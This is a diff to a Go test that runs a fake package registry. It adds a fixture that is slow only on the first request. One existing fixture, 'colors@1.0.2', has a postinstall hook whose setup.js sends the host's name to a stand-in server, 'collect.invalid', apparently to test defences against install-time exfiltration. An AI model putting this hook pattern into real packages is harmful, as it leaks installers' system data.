@@ -15,6 +15,7 @@ import (
 	"os"
 	"path/filepath"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -33,6 +34,8 @@ type testPackage struct {
 	// other is served in the place of the package that was hashed.
 	other bool
 	slow  bool
+	// once makes it slow for the first request only.
+	once *atomic.Bool
 }
 
 // fixture packages: small, and inert.
@@ -44,6 +47,7 @@ var testPackages = map[string]testPackage{
 	"colors@1.0.2":  {files: map[string]string{"index.js": "module.exports = 'red'", "setup.js": "const os = require('os')\nconst https = require('https')\nhttps.request({ host: 'collect.invalid', path: '/?h=' + os.hostname() }).end()\n", "package.json": `{"name":"colors","version":"1.0.2","scripts":{"postinstall":"node setup.js"}}`}},
 	"swapped@1.0.0": {files: map[string]string{"index.js": "1"}, other: true},
 	"slow@1.0.0":    {files: map[string]string{"index.js": "1"}, slow: true},
+	"tardy@1.0.0":   {files: map[string]string{"index.js": "1"}, slow: true, once: new(atomic.Bool)},
 }
 
 func pack(name, version string, files map[string]string) []byte {
@@ -82,7 +86,7 @@ func testRegistry(t *testing.T) *httptest.Server {
 			switch {
 			case !ok:
 				w.WriteHeader(404)
-			case p.slow:
+			case p.slow && (p.once == nil || !p.once.Swap(true)):
 				w.WriteHeader(200)
 				w.(http.Flusher).Flush()
 				select {
